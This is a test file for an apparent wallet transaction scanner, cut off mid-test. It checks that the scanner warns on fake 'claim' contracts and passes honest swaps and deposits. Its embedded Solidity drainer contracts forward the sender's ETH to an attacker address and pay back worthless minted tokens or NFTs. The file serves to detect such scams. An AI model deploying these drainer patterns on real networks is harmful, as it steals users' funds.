/**
 * A drainer that pays back a token it mints on the spot, or hands out from a stock minted earlier: the payback no
 * longer hides the drain. Judged on given transfers first, then on the devnet: a "claim" that forwards the ETH sent to
 * the attacker and mints 1,000,000 RWD to the caller warns, and so does one that pays 1,000 RWD out of its own stock,
 * or mints 300 junk NFTs (named as "300 PASS items", not one by one), or is batched beside a known router (Uniswap's
 * Universal Router, at its mainnet address) paid the ETH and told to pay it on to the attacker; while an honest
 * Uniswap V2 deposit (LP tokens minted) and swaps of ETH for tokens no feed or pool prices, in one hop or two, stay
 * NONE; each is executed and its balances compared with the scan's.
 */
import {
  type Address,
  createTestClient,
  encodeFunctionData,
  erc20Abi,
  getAddress,
  type Hex,
  http,
  maxUint256,
  numberToHex,
  parseAbi,
  parseEther,
  zeroAddress,
  zeroHash,
} from 'viem'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { TxRequest } from '../../../src/devnet/dapp/requests.ts'
import { DEADLINE, routerV2Abi, v2AddLiquidityEth, v2SwapEthForTokens } from '../../../src/devnet/dapp/uniswap.ts'
import type { Devnet } from '../../../src/devnet/devnet.ts'
import { fixtureArtifact } from '../../../src/devnet/protocols.ts'
import { waitForReceipt } from '../../../src/devnet/receipt.ts'
import { shortAddress, type TransferChange } from '../../../src/engine/assets/index.ts'
import { type ScanTransactionsResponse, scanTransactionsWithStats } from '../../../src/engine/index.ts'
import knownSpenders from '../../../src/engine/risk/data/knownSpenders.json'
import { fakePayback, type PaybackContext } from '../../../src/engine/risk/fakePaybacks.ts'
import type { AssetRef, Movement } from '../../../src/engine/simulation/index.ts'
import { startTestDevnet } from '../../support/devnet.ts'
import { runtimeCode } from '../../support/solc.ts'
import {
  deployUniversalRouter,
  UNIVERSAL_ROUTER,
  universalRouterPayEth,
  universalRouterSwapEthWithFee,
} from '../../support/universalRouter.ts'
import { devnetClient, expectRealityMatches, scanRequest } from '../protocolSupport.ts'
import { validateTransactionsResponse } from '../transactionSupport.ts'

const USER: Address = '0x70997970C51812dc3A010C7d01b50e0d17dc79C8'
const DRAINER: Address = '0x00000000000000000000000000000000000d4a17'
const JUNK: Address = '0x00000000000000000000000000000000000a9e02'
const PAIR: Address = '0x0000000000000000000000000000000000000a1e'
const HIDDEN: Address = '0x0000000000000000000000000000000000000bad'
/** An aggregator's executor: no list knows it. */
const EXECUTOR: Address = '0x000000000000000000000000000000000000e8ec'
const MID: Address = '0x000000000000000000000000000000000000a1d0'
const STOCK_DRAINER: Address = '0x00000000000000000000000000000000000d4a18'
const PASS: Address = '0x00000000000000000000000000000000000a9e03'
const PASS_DRAINER: Address = '0x00000000000000000000000000000000000d4a19'
const SHOP: Address = '0x000000000000000000000000000000000005e110'
const FEE_WALLET: Address = '0x000000000000000000000000000000000000fee5'
/** A router no list knows. */
const ROUTER_UNLISTED: Address = '0x00000000000000000000000000000000000a0a7e'
/** Mainnet's Uniswap V2 router: a listed protocol. */
const ROUTER: Address = '0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D'
/** OpenSea's SeaDrop, at its address on every chain, and the fee recipient OpenSea's drops name. */
const SEADROP: Address = '0x00005EA00Ac477B1030CE78506496e8C2dE24bf5'
const OPENSEA_FEE_RECIPIENT: Address = '0x0000a26b00c1F0DF003000390027140000fAa719'
/** The creator's own wallet, where the drop's proceeds go. */
const CREATOR_PAYOUT: Address = '0x000000000000000000000000000000000000c4ea'
/** Balancer V2's vault, a listed protocol (known spenders): no code on the devnet, so a call to it does nothing. */
const BALANCER_VAULT: Address = '0xBA12222222228d8Ba445958a75a0704d566BF2C8'
/** Aave's native currency gateway on mainnet, from the generated known spenders. */
const AAVE_GATEWAY = getAddress(
  Object.entries(knownSpenders.spenders['1']).find(([, { name }]) => name === 'Aave native currency gateway')?.[0] ??
    '',
)
/** The aToken the gateway supplies to: not listed, so no price. */
const A_WETH: Address = '0x000000000000000000000000000000000000ae7e'
/**
 * Aave's WrappedTokenGatewayV3 as it moves assets (depositETH wraps the ETH and supplies it for `onBehalfOf`), with the
 * pool's supply folded into an aToken that keeps the WETH and mints 1:1; interest and the pool's checks left out.
 */
const gatewaySource = (weth: Address) => `
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;
interface IWETH { function deposit() external payable; function transfer(address to, uint256 value) external returns (bool); }
contract SuppliedToken {
    string public constant name = "Aave Ethereum WETH";
    string public constant symbol = "aEthWETH";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    event Transfer(address indexed from, address indexed to, uint256 value);
    function mint(address to, uint256 value) external { totalSupply += value; balanceOf[to] += value; emit Transfer(address(0), to, value); }
}
contract NativeGateway {
    function depositETH(address, address onBehalfOf, uint16) external payable {
        IWETH(${getAddress(weth)}).deposit{value: msg.value}();
        IWETH(${getAddress(weth)}).transfer(${getAddress(A_WETH)}, msg.value);
        SuppliedToken(${getAddress(A_WETH)}).mint(onBehalfOf, msg.value);
    }
}`
/** Lido's withdrawal queue on mainnet (an ERC-721 of the withdrawal requests it mints), a listed spender, and stETH. */
const LIDO_WITHDRAWAL_QUEUE: Address = '0x889edC2eDab5f40e902b864aD4d7AdE8E412F9B1'
const STETH: Address = '0xae7ab96520DE3A18E5e111B5EaAb095312D7fE84'
/**
 * stETH as it moves (a plain ERC-20 at its mainnet address, rebasing left out) and Lido's WithdrawalQueueERC721 as it
 * moves assets: requestWithdrawals takes the stETH from the caller and mints one request NFT per amount to `owner`, whose
 * holder later claims the ETH.
 */
const lidoSource = `
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;
contract StakedEther {
    string public constant name = "Liquid staked Ether 2.0";
    string public constant symbol = "stETH";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    function mint(address to, uint256 value) external { totalSupply += value; balanceOf[to] += value; emit Transfer(address(0), to, value); }
    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value; balanceOf[from] -= value; balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}
contract WithdrawalQueue {
    string public constant name = "Lido: stETH Withdrawal NFT";
    string public constant symbol = "unstETH";
    uint256 public lastRequestId;
    mapping(uint256 => address) public ownerOf;
    mapping(address => uint256) public balanceOf;
    event Transfer(address indexed from, address indexed to, uint256 indexed tokenId);
    function supportsInterface(bytes4 id) external pure returns (bool) { return id == 0x80ac58cd || id == 0x01ffc9a7; }
    function tokenURI(uint256) external pure returns (string memory) { return ""; }
    function requestWithdrawals(uint256[] calldata amounts, address owner) external returns (uint256[] memory ids) {
        ids = new uint256[](amounts.length);
        for (uint256 i = 0; i < amounts.length; i++) {
            StakedEther(${getAddress(STETH)}).transferFrom(msg.sender, address(this), amounts[i]);
            lastRequestId += 1;
            ownerOf[lastRequestId] = owner;
            balanceOf[owner] += 1;
            emit Transfer(address(0), owner, lastRequestId);
            ids[i] = lastRequestId;
        }
    }
}`
/** Mainnet's WETH, a listed protocol. */
const WETH: Address = '0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2'
/** The code a user's account delegates to (EIP-7702), which runs a batch of calls as the account. */
const BATCH_ACCOUNT: Address = '0x00000000000000000000000000000000000ba7c4'
const batchSource = `
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;
contract BatchAccount {
    struct Call { address target; uint256 value; bytes data; }
    function executeBatch(Call[] calldata calls) external payable {
        require(msg.sender == address(this), "not the account");
        for (uint256 i = 0; i < calls.length; i++) {
            (bool ok,) = calls[i].target.call{value: calls[i].value}(calls[i].data);
            require(ok, "call failed");
        }
    }
}`
const batchAbi = parseAbi(['function executeBatch((address target, uint256 value, bytes data)[] calls) payable'])
/** Morpho Blue and bundler3's general adapter on mainnet, listed spenders; bundler3 itself is not listed. */
const MORPHO_BLUE: Address = '0xBBBBBbbBBb9cC5e90e3b3Af64bdAF62C37EEFFCb'
const GENERAL_ADAPTER: Address = '0x4A6c312ec70E8747a587EE860a0353cd42Be0aE0'
const BUNDLER3: Address = '0x6566194141eefa99Af43Bb5Aa71460Ca2Dc90245'
/** Compound III's USDC market on mainnet, a listed spender. */
const COMET_USDC: Address = '0xc3d688B66703497DAA19211EEdff47f25384cdc3'
/**
 * Morpho Blue (morpho-org/morpho-blue, src/Morpho.sol) and bundler3 (morpho-org/bundler3, src/Bundler3.sol and
 * src/adapters/GeneralAdapter1.sol) as they move assets: the bundle's caller is its initiator, the adapter pulls tokens
 * from the initiator and supplies them to a market for whatever `onBehalf` the bundle names, and the market credits
 * that account, whose owner alone withdraws. Markets are anyone's to create (any collateral, any oracle), so their
 * parameters only key the ledger here; interest, shares, slippage checks and callbacks are left out.
 */
const morphoSource = `
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;
interface IERC20 {
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    function transfer(address to, uint256 value) external returns (bool);
    function approve(address spender, uint256 value) external returns (bool);
}
struct MarketParams { address loanToken; address collateralToken; address oracle; address irm; uint256 lltv; }
contract MorphoBlue {
    mapping(bytes32 => mapping(address => uint256)) public supplied;
    function supply(MarketParams calldata market, uint256 assets, uint256, address onBehalf, bytes calldata) external returns (uint256, uint256) {
        supplied[keccak256(abi.encode(market))][onBehalf] += assets;
        require(IERC20(market.loanToken).transferFrom(msg.sender, address(this), assets));
        return (assets, assets);
    }
    function withdraw(MarketParams calldata market, uint256 assets, uint256, address onBehalf, address receiver) external returns (uint256, uint256) {
        require(msg.sender == onBehalf, "unauthorized");
        supplied[keccak256(abi.encode(market))][onBehalf] -= assets;
        require(IERC20(market.loanToken).transfer(receiver, assets));
        return (assets, assets);
    }
}
contract Bundler3 {
    struct Call { address to; bytes data; uint256 value; bool skipRevert; bytes32 callbackHash; }
    address public initiator;
    function multicall(Call[] calldata bundle) external payable {
        require(initiator == address(0), "AlreadyInitiated");
        initiator = msg.sender;
        for (uint256 i = 0; i < bundle.length; i++) {
            (bool ok,) = bundle[i].to.call{value: bundle[i].value}(bundle[i].data);
            require(ok || bundle[i].skipRevert, "call failed");
        }
        initiator = address(0);
    }
}
contract GeneralAdapter1 {
    function erc20TransferFrom(address token, address receiver, uint256 amount) external {
        require(msg.sender == ${getAddress(BUNDLER3)}, "UnauthorizedSender");
        require(IERC20(token).transferFrom(Bundler3(${getAddress(BUNDLER3)}).initiator(), receiver, amount));
    }
    function morphoSupply(MarketParams calldata market, uint256 assets, uint256 shares, uint256, address onBehalf, bytes calldata data) external {
        require(msg.sender == ${getAddress(BUNDLER3)}, "UnauthorizedSender");
        IERC20(market.loanToken).approve(${getAddress(MORPHO_BLUE)}, type(uint256).max);
        MorphoBlue(${getAddress(MORPHO_BLUE)}).supply(market, assets, shares, onBehalf, data);
    }
}`
const morphoAbi = parseAbi([
  'struct MarketParams { address loanToken; address collateralToken; address oracle; address irm; uint256 lltv; }',
  'function supply(MarketParams market, uint256 assets, uint256 shares, address onBehalf, bytes data) returns (uint256, uint256)',
  'function withdraw(MarketParams market, uint256 assets, uint256 shares, address onBehalf, address receiver) returns (uint256, uint256)',
  'function erc20TransferFrom(address token, address receiver, uint256 amount)',
  'function morphoSupply(MarketParams market, uint256 assets, uint256 shares, uint256 maxSupplySharePriceE27, address onBehalf, bytes data)',
  'struct Call { address to; bytes data; uint256 value; bool skipRevert; bytes32 callbackHash; }',
  'function multicall(Call[] bundle) payable',
])

const eth: AssetRef = { standard: 'NATIVE' }
const junk: AssetRef = { standard: 'ERC20', token: JUNK }
const weth: AssetRef = { standard: 'ERC20', token: WETH }
const transfer = (account: Address, asset: AssetRef, before: bigint, after: bigint): TransferChange => ({
  type: 'transfer',
  account,
  asset,
  before,
  after,
  counterparty: null,
})
const mint = (asset: AssetRef, amount: bigint, to: Address = USER): Movement => ({
  asset,
  from: zeroAddress,
  to,
  amount,
})
const move = (asset: AssetRef, from: Address, to: Address, amount: bigint): Movement => ({ asset, from, to, amount })
const call = (to: Address) => ({ from: USER, to, value: 0n, data: '0x' as const, depth: 0 })
const context = (overrides: Partial<PaybackContext> = {}): PaybackContext => ({
  chainId: 1,
  calls: [call(DRAINER)],
  movements: [mint(junk, 1000n)],
  priceOf: () => null,
  ...overrides,
})
/** The user sends 1 ETH and gains 1,000 of the junk token. */
const drained = [transfer(USER, eth, 10n, 9n), transfer(USER, junk, 0n, 1000n)]

describe('fakePayback', () => {
  it('a token minted for the user, unvalued, from a contract not called and keeping nothing of theirs: a payback', () => {
    expect(fakePayback(drained, USER, context())).toBe('minted')
  })

  it('not when the gain was paid from reserves (a swap), or only part of it was minted', () => {
    expect(fakePayback(drained, USER, context({ movements: [] }))).toBe(null)
    expect(fakePayback(drained, USER, context({ movements: [mint(junk, 999n)] }))).toBe(null)
    expect(fakePayback(drained, USER, context({ movements: [mint(junk, 1000n, PAIR)] }))).toBe(null)
  })

  it('not when the token is valued: a price read, or on the bundled list', () => {
    const price = { source: 'Chainlink' as const, updatedAt: 0, dollarValuePerToken: 1 }
    expect(fakePayback(drained, USER, context({ priceOf: () => price }))).toBe(null)
    const dai: AssetRef = { standard: 'ERC20', token: '0x6B175474E89094C44Da98b954EedeAC495271d0F' }
    const daiDrained = [transfer(USER, eth, 10n, 9n), transfer(USER, dai, 0n, 1000n)]
    expect(fakePayback(daiDrained, USER, context({ movements: [mint(dai, 1000n)] }))).toBe(null)
  })

  it('not for a receipt: shares of the contract called, or a token whose contract keeps what the user puts in', () => {
    expect(fakePayback(drained, USER, context({ calls: [call(JUNK)] }))).toBe(null)
    const deposit = [...drained, transfer(JUNK, eth, 0n, 1n)]
    expect(fakePayback(deposit, USER, context())).toBe(null)
  })

  it('handed out from stock by a contract paid nothing (it forwards what it takes): an unpaid payback', () => {
    const movements = [move(eth, USER, DRAINER, 1n), move(eth, DRAINER, HIDDEN, 1n), move(junk, DRAINER, USER, 1000n)]
    expect(fakePayback(drained, USER, context({ movements }))).toBe('unpaid')
    // Part minted, part from the stock: still no payment.
    const mixed = [...movements.slice(0, 2), mint(junk, 400n), move(junk, DRAINER, USER, 600n)]
    expect(fakePayback(drained, USER, context({ movements: mixed }))).toBe('unpaid')
  })

  it("not when whoever hands it out is paid: a pool keeps the ETH, or the next hop keeps the first hop's output", () => {
    const sold = [move(eth, USER, PAIR, 1n), move(junk, PAIR, USER, 1000n)]
    expect(fakePayback(drained, USER, context({ calls: [call(ROUTER_UNLISTED)], movements: sold }))).toBe(null)
    const mid: AssetRef = { standard: 'ERC20', token: MID }
    const hops = [move(eth, USER, PAIR, 1n), move(mid, PAIR, DRAINER, 5n), move(junk, DRAINER, USER, 1000n)]
    expect(fakePayback(drained, USER, context({ calls: [call(ROUTER_UNLISTED)], movements: hops }))).toBe(null)
  })

  it('not when all the user loses is paid to a known protocol called, or the user gains nothing or the native currency', () => {
    const paidRouter = [move(eth, USER, ROUTER, 1n), mint(junk, 1000n)]
    expect(fakePayback(drained, USER, context({ calls: [call(ROUTER)], movements: paidRouter }))).toBe(null)
    expect(fakePayback([transfer(USER, eth, 10n, 9n)], USER, context())).toBe(null)
    expect(fakePayback([transfer(USER, eth, 9n, 10n)], USER, context({ movements: [mint(eth, 1n)] }))).toBe(null)
  })

  it('a known protocol called beside the drainer, in one batch, excuses nothing it is not paid', () => {
    const calls = [call(USER), call(BALANCER_VAULT), call(DRAINER)]
    const paidDrainer = [move(eth, USER, DRAINER, 1n), mint(junk, 1000n)]
    expect(fakePayback(drained, USER, context({ calls, movements: paidDrainer }))).toBe('minted')
    // Wrapping the ETH and unwrapping it again pays the listed WETH nothing.
    const roundTrip = [move(eth, USER, WETH, 1n), move(eth, WETH, USER, 1n), ...paidDrainer]
    expect(fakePayback(drained, USER, context({ calls: [...calls, call(WETH)], movements: roundTrip }))).toBe('minted')
  })

  it('a known router counts as paid only for what it does not pass on to a wallet, which pays nothing out', () => {
    const calls = [call(USER), call(UNIVERSAL_ROUTER), call(DRAINER)]
    const paid = move(eth, USER, UNIVERSAL_ROUTER, 1n)
    // TRANSFER of the ETH itself, or of the WETH the router wraps it into, to the attacker's wallet.
    const passed = [paid, move(eth, UNIVERSAL_ROUTER, HIDDEN, 1n), mint(junk, 1000n)]
    expect(fakePayback(drained, USER, context({ calls, movements: passed }))).toBe('minted')
    const wrapped = [
      paid,
      move(eth, UNIVERSAL_ROUTER, WETH, 1n),
      mint(weth, 1n, UNIVERSAL_ROUTER),
      move(weth, UNIVERSAL_ROUTER, HIDDEN, 1n),
      mint(junk, 1000n),
    ]
    expect(fakePayback(drained, USER, context({ calls, movements: wrapped }))).toBe('minted')
    // Passed on to a contract that keeps it and mints the user's receipt (a vault's shares): the protocol's deposit.
    const deposited = [paid, move(eth, UNIVERSAL_ROUTER, JUNK, 1n), mint(junk, 1000n)]
    expect(fakePayback(drained, USER, context({ calls, movements: deposited }))).toBe(null)
  })

  it('a listed ledger a known adapter pays (Morpho Blue, credited to whoever the call names) counts as passed on', () => {
    const calls = [call(BUNDLER3), call(BALANCER_VAULT), call(DRAINER)]
    const paid = move(eth, USER, GENERAL_ADAPTER, 1n)
    const supplied = [paid, move(eth, GENERAL_ADAPTER, MORPHO_BLUE, 1n), mint(junk, 1000n)]
    expect(fakePayback(drained, USER, context({ calls, movements: supplied }))).toBe('minted')
    // A Compound III market credits `dst` in supplyTo as Morpho credits `onBehalf`.
    const toComet = [paid, move(eth, GENERAL_ADAPTER, COMET_USDC, 1n), mint(junk, 1000n)]
    expect(fakePayback(drained, USER, context({ calls, movements: toComet }))).toBe('minted')
    // Paid on to a listed contract that is no ledger (Balancer's vault, which keeps a join's tokens): in the trade.
    const joined = [paid, move(eth, GENERAL_ADAPTER, BALANCER_VAULT, 1n), mint(junk, 1000n)]
    expect(fakePayback(drained, USER, context({ calls, movements: joined }))).toBe(null)
  })

  it("a known router's swap through an executor and a pool, paid out to the user by the executor: no payback", () => {
    // As an aggregator routes: the router hands the ETH to its executor, which wraps it, pays the pool, and passes the
    // pool's output on to the user; the executor keeps nothing, the pool is paid: nothing leaves the trade.
    const movements = [
      move(eth, USER, UNIVERSAL_ROUTER, 1n),
      move(eth, UNIVERSAL_ROUTER, EXECUTOR, 1n),
      move(eth, EXECUTOR, WETH, 1n),
      mint(weth, 1n, EXECUTOR),
      move(weth, EXECUTOR, PAIR, 1n),
      move(junk, PAIR, EXECUTOR, 1000n),
      move(junk, EXECUTOR, USER, 1000n),
    ]
    expect(fakePayback(drained, USER, context({ calls: [call(UNIVERSAL_ROUTER)], movements }))).toBe(null)
  })

  it("an honest join of Balancer's vault: the vault is paid the ETH, the pool mints the shares, no payback", () => {
    const pool: AssetRef = { standard: 'ERC20', token: PAIR }
    const joined = [transfer(USER, eth, 10n, 9n), transfer(USER, pool, 0n, 1000n)]
    const movements = [move(eth, USER, BALANCER_VAULT, 1n), move(eth, BALANCER_VAULT, WETH, 1n), mint(pool, 1000n)]
    expect(fakePayback(joined, USER, context({ calls: [call(BALANCER_VAULT)], movements }))).toBe(null)
  })

  it('a known minter excuses only a mint it is paid for, not a drainer called beside it', () => {
    const calls = [call(SEADROP), call(DRAINER)]
    const paidMinter = [move(eth, USER, SEADROP, 1n), mint(junk, 1000n)]
    expect(fakePayback(drained, USER, context({ calls, movements: paidMinter }))).toBe(null)
    const paidDrainer = [move(eth, USER, DRAINER, 1n), mint(junk, 1000n)]
    expect(fakePayback(drained, USER, context({ calls, movements: paidDrainer }))).toBe('minted')
  })
})

/**
 * A token anyone can mint, and "claims" that forward the ETH sent to the attacker and pay the caller: RWD minted on the
 * spot, RWD from the claim's own stock minted beforehand, or 300 PASS NFTs minted on the spot. And an honest shop that
 * sells RWD from its stock, keeps the ETH and pays 1 % of it to a fee wallet no calldata names.
 */
const rewardSource = (attacker: Address) => `
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;
contract RewardToken {
    string public constant name = "Claim Reward";
    string public constant symbol = "RWD";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    event Transfer(address indexed from, address indexed to, uint256 value);
    function mint(address to, uint256 amount) external {
        totalSupply += amount;
        balanceOf[to] += amount;
        emit Transfer(address(0), to, amount);
    }
    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        emit Transfer(msg.sender, to, amount);
        return true;
    }
}
contract RewardDrainer {
    function claim() external payable {
        (bool ok,) = ${attacker}.call{value: msg.value}("");
        require(ok, "forward failed");
        RewardToken(${getAddress(JUNK)}).mint(msg.sender, 1000000 ether);
    }
}
contract StockDrainer {
    function claim() external payable {
        (bool ok,) = ${attacker}.call{value: msg.value}("");
        require(ok, "forward failed");
        RewardToken(${getAddress(JUNK)}).transfer(msg.sender, 1000 ether);
    }
}
contract Shop {
    function buy() external payable {
        (bool ok,) = ${getAddress(FEE_WALLET)}.call{value: msg.value / 100}("");
        require(ok, "fee failed");
        RewardToken(${getAddress(JUNK)}).transfer(msg.sender, msg.value * 1000);
    }
}
contract Pass {
    string public constant name = "Airdrop Pass";
    string public constant symbol = "PASS";
    mapping(uint256 => address) public ownerOf;
    mapping(address => uint256) public balanceOf;
    event Transfer(address indexed from, address indexed to, uint256 indexed id);
    function supportsInterface(bytes4 id) external pure returns (bool) { return id == 0x80ac58cd || id == 0x01ffc9a7; }
    function tokenURI(uint256) external pure returns (string memory) { return "ipfs://pass"; }
    function drop(address to, uint256 first, uint256 count) external {
        for (uint256 i = 0; i < count; i++) {
            ownerOf[first + i] = to;
            emit Transfer(address(0), to, first + i);
        }
        balanceOf[to] += count;
    }
}
contract PassDrainer {
    function claim() external payable {
        (bool ok,) = ${attacker}.call{value: msg.value}("");
        require(ok, "forward failed");
        Pass(${getAddress(PASS)}).drop(msg.sender, 1000, 300);
    }
}`

describe('a drainer paying back a token it mints, and honest mints and swaps, on the devnet', () => {
  let devnet: Devnet
  let rpcUrl: string
  const fx = () => devnet.fixtures
  const account = (index: number) => fx().accounts[index]?.address as Address
  /** An 18-decimal token the maker (account 5) deploys: no feed, no V3 pool, so no price. */
  let meme: Address

  beforeAll(async () => {
    devnet = await startTestDevnet()
    rpcUrl = fx().rpcUrl
    const anvil = createTestClient({ mode: 'anvil', transport: http(rpcUrl) })
    const attacker = getAddress(fx().drainer.attacker)
    await anvil.setCode({ address: JUNK, bytecode: runtimeCode('Reward.sol', rewardSource(attacker), 'RewardToken') })
    const contracts: [Address, string][] = [
      [DRAINER, 'RewardDrainer'],
      [STOCK_DRAINER, 'StockDrainer'],
      [PASS, 'Pass'],
      [PASS_DRAINER, 'PassDrainer'],
      [SHOP, 'Shop'],
    ]
    for (const [address, name] of contracts) {
      await anvil.setCode({ address, bytecode: runtimeCode('Reward.sol', rewardSource(attacker), name) })
    }
    const client = devnetClient(rpcUrl)
    // The stock drainer's and the shop's RWD, minted long before any claim or sale.
    for (const holder of [STOCK_DRAINER, SHOP]) {
      const stocked = await client.writeContract({
        account: account(9),
        address: JUNK,
        abi: parseAbi(['function mint(address to, uint256 amount)']),
        functionName: 'mint',
        args: [holder, parseEther('1000000')],
        chain: null,
      })
      await waitForReceipt(client, stocked)
    }
    const { abi, bytecode } = fixtureArtifact('DevToken')
    const deployed = await client.deployContract({
      account: account(5),
      abi,
      bytecode,
      args: ['Meme Coin', 'MEME', 18, [account(5)], [parseEther('1000000')]],
      chain: null,
    })
    meme = getAddress((await waitForReceipt(client, deployed)).contractAddress as Address)
    const approved = await client.writeContract({
      account: account(5),
      address: meme,
      abi: erc20Abi,
      functionName: 'approve',
      args: [fx().uniswapV2.router, maxUint256],
      chain: null,
    })
    await waitForReceipt(client, approved)
    // The pair exists before the deposit, so the deposit's LP balances can be read before it runs as after.
    const created = await client.writeContract({
      account: account(5),
      address: fx().uniswapV2.factory,
      abi: parseAbi(['function createPair(address tokenA, address tokenB) returns (address pair)']),
      functionName: 'createPair',
      args: [meme, fx().weth.address],
      chain: null,
    })
    await waitForReceipt(client, created)
  }, 60_000)
  afterAll(() => devnet?.stop())

  async function scan(tx: TxRequest): Promise<ScanTransactionsResponse> {
    const { outcome } = await scanTransactionsWithStats(scanRequest(tx), { rpcUrl, chainId: 31337 })
    if (!outcome.ok) throw new Error(`scan failed: ${JSON.stringify(outcome.error)}`)
    validateTransactionsResponse(outcome.response)
    return outcome.response
  }

  it('a "claim" that sends your ETH to the attacker and mints you 1,000,000 RWD: SUSPECTED_MALICIOUS, WARN', async () => {
    const user = account(1)
    const claim = encodeFunctionData({ abi: parseAbi(['function claim() payable']), functionName: 'claim' })
    const tx: TxRequest = { from: user, to: DRAINER, data: claim, value: numberToHex(parseEther('2')) }
    const response = await scan(tx)
    expect(response.action).toBe('WARN')
    const warning = response.warnings.find((w) => w.kind === 'SUSPECTED_MALICIOUS')
    expect(warning?.severity).toBe('WARNING')
    expect(warning?.message).toMatch(/^Your ETH would end up with 0x[0-9a-f]{4}…[0-9a-f]{4}, an address this/)
    expect(warning?.message).toContain(
      'all you get back is 1,000,000 RWD, minted for you in this transaction, which Preflight cannot value',
    )
    // Executed: the attacker has the 2 ETH, the user the RWD, as the scan said.
    const executed = await expectRealityMatches(rpcUrl, response, tx)
    expect(executed.get(`${fx().drainer.attacker.toLowerCase()}|native`)).toBe(parseEther('2'))
  })

  it('a "claim" that sends your ETH to the attacker and pays you 1,000 RWD from a stock minted earlier: WARN', async () => {
    const user = account(1)
    const claim = encodeFunctionData({ abi: parseAbi(['function claim() payable']), functionName: 'claim' })
    const tx: TxRequest = { from: user, to: STOCK_DRAINER, data: claim, value: numberToHex(parseEther('1')) }
    const response = await scan(tx)
    expect(response.action).toBe('WARN')
    const warning = response.warnings.find((w) => w.kind === 'SUSPECTED_MALICIOUS')
    expect(warning?.severity).toBe('WARNING')
    expect(warning?.message).toContain(
      'all you get back is 1,000 RWD, which Preflight cannot value, from an address paid nothing for it',
    )
    const executed = await expectRealityMatches(rpcUrl, response, tx)
    expect(executed.get(`${fx().drainer.attacker.toLowerCase()}|native`)).toBe(parseEther('1'))
  })

  it('a "claim" that sends your ETH to the attacker and mints you 300 PASS NFTs: one warning that counts them', async () => {
    const user = account(1)
    const claim = encodeFunctionData({ abi: parseAbi(['function claim() payable']), functionName: 'claim' })
    const tx: TxRequest = { from: user, to: PASS_DRAINER, data: claim, value: numberToHex(parseEther('1')) }
    // Not checked against the reference schema: it wants a counterparty on every NFT transfer, and a mint has none.
    const { outcome } = await scanTransactionsWithStats(scanRequest(tx), { rpcUrl, chainId: 31337 })
    if (!outcome.ok) throw new Error(`scan failed: ${JSON.stringify(outcome.error)}`)
    const { response } = outcome
    expect(response.action).toBe('WARN')
    const warning = response.warnings.find((w) => w.kind === 'SUSPECTED_MALICIOUS')
    expect(warning?.message).toContain('all you get back is 300 PASS items, minted for you in this transaction')
    expect(warning?.message).not.toContain('#1000')
    expect(warning?.message.length).toBeLessThan(500)
  })

  it('an honest shop selling RWD from its stock, which keeps the ETH but 1 % paid to a fee wallet: NONE', async () => {
    const buyer = account(2)
    const buy = encodeFunctionData({ abi: parseAbi(['function buy() payable']), functionName: 'buy' })
    const tx: TxRequest = { from: buyer, to: SHOP, data: buy, value: numberToHex(parseEther('1')) }
    const response = await scan(tx)
    expect(response.action).toBe('NONE')
    expect(response.warnings).toEqual([])
    const executed = await expectRealityMatches(rpcUrl, response, tx)
    expect(executed.get(`${FEE_WALLET.toLowerCase()}|native`)).toBe(parseEther('0.01'))
  })

  it('an honest V2 deposit of ETH and MEME: the LP tokens are minted by the pair that keeps them, NONE', async () => {
    const tx = v2AddLiquidityEth(fx(), account(5), meme, parseEther('100000'), parseEther('10'))
    const response = await scan(tx)
    expect(response.action).toBe('NONE')
    expect(response.warnings).toEqual([])
    await expectRealityMatches(rpcUrl, response, tx)
  })

  it('an honest swap of 1 ETH for MEME, which has no price, through the V2 router: NONE', async () => {
    const tx = v2SwapEthForTokens(fx(), account(6), meme, parseEther('1'))
    const response = await scan(tx)
    const diffs = (
      response.simulationResults.aggregated.expectedStateChanges[account(6).toLowerCase() as Address] ?? []
    ).map((change) => change.humanReadableDiff)
    expect(diffs).toContain('Send 1 ETH')
    expect(diffs.some((diff) => / MEME$/.test(diff))).toBe(true)
    expect(response.action).toBe('NONE')
    expect(response.warnings).toEqual([])
    await expectRealityMatches(rpcUrl, response, tx)
  })

  it('an honest swap of 1 ETH for MEME2 through MEME, neither priced, in two hops: the last pool is paid, NONE', async () => {
    const maker = account(5)
    const client = devnetClient(rpcUrl)
    const { abi, bytecode } = fixtureArtifact('DevToken')
    const deployed = await client.deployContract({
      account: maker,
      abi,
      bytecode,
      args: ['Meme Two', 'MEME2', 18, [maker], [parseEther('1000000')]],
      chain: null,
    })
    const meme2 = getAddress((await waitForReceipt(client, deployed)).contractAddress as Address)
    const router = fx().uniswapV2.router
    const approved = await client.writeContract({
      account: maker,
      address: meme2,
      abi: erc20Abi,
      functionName: 'approve',
      args: [router, maxUint256],
      chain: null,
    })
    await waitForReceipt(client, approved)
    const added = await client.writeContract({
      account: maker,
      address: router,
      abi: parseAbi([
        'function addLiquidity(address tokenA, address tokenB, uint256 amountADesired, uint256 amountBDesired, uint256 amountAMin, uint256 amountBMin, address to, uint256 deadline) returns (uint256, uint256, uint256)',
      ]),
      functionName: 'addLiquidity',
      args: [meme, meme2, parseEther('100000'), parseEther('100000'), 0n, 0n, maker, DEADLINE],
      chain: null,
    })
    await waitForReceipt(client, added)
    const buyer = account(7)
    const data = encodeFunctionData({
      abi: routerV2Abi,
      functionName: 'swapExactETHForTokens',
